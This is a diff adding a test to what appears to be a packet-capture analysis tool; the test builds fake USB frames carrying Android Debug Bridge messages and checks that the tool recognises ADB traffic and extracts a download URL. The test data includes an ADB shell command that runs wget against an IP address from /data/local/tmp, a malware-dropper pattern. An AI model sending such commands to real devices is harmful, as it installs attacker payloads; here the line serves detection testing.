@@ -8,6 +8,7 @@ import os
 import random
 import shutil
 import socket
+import struct
 import subprocess
 import threading
 import time
@@ -26,7 +27,7 @@ from scapy.layers.l2 import ARP, CookedLinux, CookedLinuxV2, Dot1Q, Ether, Loopb
 from scapy.packet import Packet, Raw
 from scapy.utils import wrpcap, wrpcapng
 
-from eudaemon.cli import _streams, main
+from eudaemon.cli import _capture, _streams, main
 from eudaemon.cli._capture import Capture
 from eudaemon.cli._streams import Conversation, Streams
 
@@ -184,6 +185,31 @@ def test_whatever_is_in_a_packet_never_fails(data: bytes, link: int) -> None:
     Streams().read(Capture(pcap([data], link)).ip())
     version = bytes([0x45 if link % 2 else 0x60])
     Streams().read([(0.0, version + data)])
+
+
+@pytest.mark.parametrize(("link", "header"), [(189, 48), (220, 64)])
+def test_adb_over_a_cable_is_played_to_adb(
+    link: int, header: int, replayed: Run, monkeypatch: pytest.MonkeyPatch
+) -> None:  # fmt: skip
+    def frame(kind: bytes, transfer: int, endpoint: int, data: bytes, device: int = 5) -> bytes:
+        head = bytes(8) + kind + bytes([transfer, endpoint, device, 1, 0, ord("-"), 0 if data else ord("<")])
+        return head + bytes(header - len(head)) + data
+
+    def message(command: bytes, one: int, two: int, data: bytes) -> list[bytes]:
+        number = int.from_bytes(command, "little")
+        head = struct.pack("<6I", number, one, two, len(data), sum(data), number ^ 0xFFFFFFFF)
+        return [frame(b"S", 3, 2, head), frame(b"C", 3, 2, b""), frame(b"S", 3, 2, data)]
+
+    said = [
+        frame(b"C", 2, 0x80, b"descriptor"), frame(b"C", 3, 0x81, b"an answer"),
+        *message(b"CNXN", 0x01000000, 4096, b"host::\0"),
+        *message(b"OPEN", 1, 0, b"shell:cd /data/local/tmp; wget http://45.9.8.7/x\0"),
+    ]  # fmt: skip
+    _, (told,), err = replayed(pcap(said, link))
+    assert told["room"] == "adb", err
+    assert [wish["url"] for wish in told["wishes"]] == ["http://45.9.8.7/x"]
+    monkeypatch.setattr(_capture, "USB_PIPES_MAX", 1)
+    assert replayed(pcap([*said, frame(b"S", 3, 2, b"x", device=6)], link))[0] == 2
 
 
 def test_what_cannot_be_read_is_counted(replayed: Run) -> None:
